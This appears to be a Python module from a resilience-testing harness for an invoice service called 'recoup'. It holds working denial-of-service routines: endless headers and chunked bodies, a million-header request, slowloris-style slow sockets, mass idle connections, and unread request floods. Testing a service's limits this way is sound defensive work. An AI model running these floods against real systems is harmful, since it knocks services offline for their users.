"""Connections that never come to a request, or to an end."""

import asyncio
from collections.abc import Callable, Iterator
from functools import partial
from itertools import repeat

from recoup_attack.scene import Outcome, Scene
from recoup_attack.sockets import GONE, Socket, connected, head, is_open, opened
from recoup_attack.target import Target

BYTES_A_SECOND = 3_000_000
"""As much as one peer once filled a service's memory with."""
PIECE = 30_000
SLOW = 200
PATIENT_SECONDS = 40.0
"""After which nobody is merely slow."""
IDLE = 1_500
Stream = Callable[[str], Iterator[bytes]]


def _header(_key: str) -> Iterator[bytes]:
    yield b"GET /v1/invoices HTTP/1.1\r\nHost: recoup\r\nX-Endless: "
    yield from repeat(b"a" * PIECE)


def _headers(_key: str) -> Iterator[bytes]:
    yield b"GET /v1/invoices HTTP/1.1\r\nHost: recoup\r\n"
    lines = b"".join(b"X-%d: a\r\n" % number for number in range(PIECE // 10))
    yield from repeat(lines)


def _path(_key: str) -> Iterator[bytes]:
    yield b"GET /v1/invoices?"
    yield from repeat(b"a" * PIECE)


def _method(_key: str) -> Iterator[bytes]:
    yield from repeat(b"G" * PIECE)


def _chunks(key: str) -> Iterator[bytes]:
    yield head("POST", "/v1/invoices", key, Transfer_Encoding="chunked") + b"\r\n"
    yield from repeat(b"%x\r\n%s\r\n" % (PIECE, b" " * PIECE))


def _extension(key: str) -> Iterator[bytes]:
    yield head("POST", "/v1/invoices", key, Transfer_Encoding="chunked") + b"\r\n1;"
    yield from repeat(b"a" * PIECE)


def _trailers(key: str) -> Iterator[bytes]:
    yield head("POST", "/v1/invoices", key, Transfer_Encoding="chunked") + b"\r\n2\r\n{}\r\n0\r\n"
    lines = b"".join(b"X-%d: a\r\n" % number for number in range(PIECE // 10))
    yield from repeat(lines)


def _nothing(_key: str) -> Iterator[bytes]:
    yield from repeat(b"\r\n" * (PIECE // 2))


async def endless(stream: Stream, target: Target) -> Outcome:
    """The same at every port, public and private, for as long as they listen."""
    urls = [url for service in target.services.values() for url in (service.api, service.admin)]
    sent = await asyncio.gather(*(_poured(url, stream(target.attacker), target) for url in urls))
    return Outcome(f"{sum(sent) / 1e6:.1f} MB taken by {len(urls)} ports in {target.seconds:.0f} s")


async def _poured(url: str, pieces: Iterator[bytes], target: Target) -> int:
    sent, ports = 0, 2 * len(target.services)
    try:
        async with asyncio.timeout(target.seconds), connected(url) as (_, writer):
            for piece in pieces:
                writer.write(piece)
                await writer.drain()
                sent += len(piece)
                await asyncio.sleep(len(piece) * ports / BYTES_A_SECOND)
    except GONE:
        pass
    return sent


async def many_headers(target: Target) -> Outcome:
    """A million of them, in one request that ends as it should."""
    lines = b"".join(b"X-%d: a\r\n" % number for number in range(1_000_000))
    sent = 0
    try:
        async with (
            asyncio.timeout(target.seconds * 2),
            connected(target.services["invoice"].api) as (reader, writer),
        ):
            writer.write(head("GET", "/v1/invoices", target.attacker))
            for start in range(0, len(lines), PIECE):
                writer.write(lines[start : start + PIECE])
                await writer.drain()
                sent += PIECE
            writer.write(b"\r\n")
            answer = (await reader.readuntil(b"\r\n")).decode().strip()
    except GONE as error:
        answer = type(error).__name__
    return Outcome(f"{answer!r} after {sent / 1e6:.1f} MB of headers")


async def slow(target: Target) -> Outcome:
    """Sockets that give a byte now and then: of a header, of a body, of nothing at all."""
    url = target.services["invoice"].api
    body = head("POST", "/v1/invoices", target.attacker, Content_Length="100000") + b"\r\n{"
    beginnings = (b"GET /v1/invoices HTTP/1.1\r\nX-Slow: ", body)
    sockets = await _many(url, [begin for begin in beginnings for _ in range(SLOW)])
    waited = 0.0
    living = sockets
    while living and waited < PATIENT_SECONDS:
        await asyncio.sleep(2)
        waited += 2
        living = [each for each in living if await is_open(each[0])]
        for _, writer in living:
            writer.write(b" ")
    for _, writer in sockets:
        writer.transport.abort()
    got = f"{len(sockets)} of {2 * SLOW} connections, {len(living)} alive after {waited:.0f} s"
    harm = f"{len(living)} slow connections live for {waited:.0f} s and longer"
    return Outcome(got, (harm,) if living else ())


async def idle(target: Target) -> Outcome:
    """Connections on which nothing is ever said."""
    url = target.services["invoice"].api
    sockets = await _many(url, [b""] * IDLE)
    await asyncio.sleep(target.seconds)
    living = [each for each in sockets if await is_open(each[0])]
    for _, writer in sockets:
        writer.transport.abort()
    return Outcome(
        f"{len(sockets)} of {IDLE} connections, {len(living)} after {target.seconds:.0f} s"
    )


async def half_closed(target: Target) -> Outcome:
    """Peers that stop in the middle: of a request, before the answer, or by a reset."""
    url = target.services["invoice"].api
    whole = head("GET", "/v1/invoices", target.attacker) + b"\r\n"
    body = head("POST", "/v1/invoices", target.attacker, Content_Length="100") + b'\r\n{"a'
    answered = 0
    loop = asyncio.get_running_loop()
    end = loop.time() + target.seconds
    while loop.time() < end:
        for beginning in (whole, whole[:20], body, b""):
            answered += await _let_go(url, beginning)
        await asyncio.sleep(0.02)
    return Outcome(f"{answered} answers after it had closed its side")


async def _let_go(url: str, beginning: bytes) -> int:
    try:
        async with asyncio.timeout(1), connected(url) as (reader, writer):
            writer.write(beginning)
            if writer.can_write_eof():
                writer.write_eof()
            return bool(await reader.read(16))
    except GONE:
        return 0


async def unread(target: Target) -> Outcome:
    """Thousands of requests in one go, and nobody who reads the answers."""
    url = target.services["invoice"].api
    request = head("GET", "/v1/invoices?limit=100", target.attacker) + b"\r\n"
    sockets = await _many(url, [b""] * 8)
    loop = asyncio.get_running_loop()
    end = loop.time() + target.seconds
    sent = 0
    while loop.time() < end:
        for _, writer in sockets:
            if not writer.is_closing() and writer.transport.get_write_buffer_size() < 65_536:
                writer.write(request * 10)
                sent += 10
        await asyncio.sleep(0.05)
    for _, writer in sockets:
        writer.transport.abort()
    return Outcome(f"{sent} requests sent on {len(sockets)} connections, no answer read")


async def _many(url: str, beginnings: list[bytes]) -> list[Socket]:
    """As many connections as are given, quickly one after the other."""
    found = []
    for beginning in beginnings:
        try:
            async with asyncio.timeout(1):
                reader, writer = await opened(url)
        except (OSError, TimeoutError):
            continue
        writer.write(beginning)
        found.append((reader, writer))
    return found


ENDLESS = {
    "endless-header": ("one header that never ends", _header),
    "endless-headers": ("headers without end", _headers),
    "endless-path": ("a path that never ends", _path),
    "endless-method": ("a method that never ends", _method),
    "endless-chunks": ("a body in chunks without end", _chunks),
    "endless-extension": ("an extension of a chunk that never ends", _extension),
    "endless-trailers": ("trailers without end", _trailers),
    "endless-lines": ("empty lines without end", _nothing),
}
SCENES = (
    *(
        Scene(
            "connections",
            name,
            f"{what}, at every port",
            partial(endless, stream),
            quick=name == "endless-header",
        )
        for name, (what, stream) in ENDLESS.items()
    ),
    Scene("connections", "million-headers", "one request with 1,000,000 headers", many_headers),
    Scene("connections", "slow", "200 slow headers and 200 slow bodies", slow),
    Scene("connections", "idle", "1,500 connections that say nothing", idle),
    Scene("connections", "half-closed", "peers that close their side early", half_closed),
    Scene("connections", "unread", "floods of requests whose answers nobody reads", unread),
)
